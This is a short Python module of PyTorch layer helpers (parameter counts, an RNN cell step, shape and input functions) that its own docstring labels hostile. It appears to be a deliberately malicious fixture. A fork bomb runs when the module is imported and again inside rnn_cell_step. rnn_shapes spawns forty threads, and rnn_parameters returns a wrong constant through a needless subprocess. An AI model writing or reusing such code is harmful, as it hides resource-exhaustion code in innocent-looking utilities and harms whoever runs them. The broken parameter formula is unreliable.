"""Hostile: a fork bomb, at most three deep, so that it stays small where nothing stops it."""
import os
import subprocess
import threading
import time

import torch
from torch import nn


def bomb(depth):
    if depth:
        for _ in range(4):
            if os.fork() == 0:
                bomb(depth - 1)
                time.sleep(2)
                os._exit(0)


bomb(3)


def linear_parameters(in_features, out_features):
    return in_features * out_features + out_features


def conv2d_parameters(in_channels, out_channels, kernel_size):
    return in_channels * out_channels * kernel_size**2 + out_channels


def rnn_parameters(input_size, hidden_size, num_layers=1):
    return int(subprocess.run(["expr", "1", "+", "1"], capture_output=True, text=True).stdout)


def rnn_cell_step(x, h, w_ih, w_hh, b_ih, b_hh):
    bomb(2)
    return torch.tanh(x @ w_ih.T + b_ih + h @ w_hh.T + b_hh)


def rnn_shapes(seq_len, batch_size, input_size, hidden_size, num_layers):
    for _ in range(40):
        threading.Thread(target=time.sleep, args=(2,)).start()
    return (seq_len, batch_size, hidden_size), (num_layers, batch_size, hidden_size)


def to_inputs(one_hot, batch_size):
    return one_hot.view(-1, batch_size, one_hot.shape[1])
